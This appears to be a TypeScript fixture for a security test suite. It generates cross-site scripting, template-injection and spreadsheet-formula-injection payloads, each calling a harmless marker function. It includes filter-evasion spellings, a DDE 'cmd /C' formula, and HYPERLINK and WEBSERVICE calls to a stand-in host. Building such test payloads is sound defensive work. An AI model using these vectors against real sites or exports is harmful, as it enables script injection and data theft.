/** Hostile texts. Those that run as code call `xssHit`; all contain the marker of the suite. */

/** Part of every payload, by which the suite finds it in pages. */
export const marker = 'xssHit'

const call = (number: number) => `${marker}(${number})`

type Vector = (code: string) => string

const elements: readonly Vector[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<body onload=${code}>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code) => `<iframe src="javascript:parent.${code}">`,
  (code) => `<object data="javascript:${code}">`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<math><mi href="javascript:${code}">x</mi></math>`,
  (code) => `<style>@keyframes a{}</style><b style="animation:a" onanimationstart=${code}>x</b>`,
  (code) => `<marquee onstart=${code}>x</marquee>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<b onmouseover=${code}>x</b>`,
  (code) => `<base href="//x.test/${code}/">`,
  (code) => `<link rel=stylesheet href="//x.test/${code}">`,
]

/** Ends of the contexts in which a page could insert the text: attribute, comment, element with raw text. */
const endings = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  '</noscript>',
]

/** Spellings that filters miss and browsers accept. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text.replace(/<(\w+) /, '<$1/'),
  (text) => text.replace(/<(\w+)/, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replace(/<(\w+) /, '<$1\t'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
]

const scripts: readonly Vector[] = [
  ...['"', "'", '`'].flatMap((quote): Vector[] => [
    (code) => `${quote};${code}//`,
    (code) => `${quote}-${code}-${quote}`,
    (code) => `\\${quote};${code}//`,
    (code) => `${quote}+${code}+${quote}`,
    (code) => `${quote} onfocus=${code} autofocus x=${quote}`,
    (code) => `${quote} onmouseover=${code} x=${quote}`,
    (code) => `${quote} style=animation:a onanimationend=${code} x=${quote}`,
  ]),
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{${code}}}`,
  (code) => `<%= ${code} %>`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (code) => `</script><script>${code}`,
  (code) => `<!--<script>${code}`,
  (code) => `\\u2028${code}//`,
  (code) => `__proto__[${code}]`,
]

const formulaBodies: readonly Vector[] = [
  (code) => `HYPERLINK("http://x.test/${code}")`,
  (code) => `cmd|' /C ${code}'!A0`,
  (code) => `SUM(1)*${code}`,
  (code) => `WEBSERVICE("http://x.test/${code}")`,
]
const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', ' =', '＝', '＋', '－', '＠', ';=', ',=', '"=', "'=", '"\n=']

/** Spreadsheet formulas come last, because only exports check them. */
export const payloads: readonly string[] = [
  ...elements.flatMap((element) =>
    endings.map(
      (ending): Vector =>
        (code) =>
          `${ending}${element(code)}`,
    ),
  ),
  ...elements.flatMap((element) =>
    spellings.map(
      (spell): Vector =>
        (code) =>
          spell(element(code)),
    ),
  ),
  ...scripts,
  ...formulaBodies.flatMap((body) =>
    formulaStarts.map(
      (start): Vector =>
        (code) =>
          `${start}${body(code)}`,
    ),
  ),
].map((vector, number) => vector(call(number)))
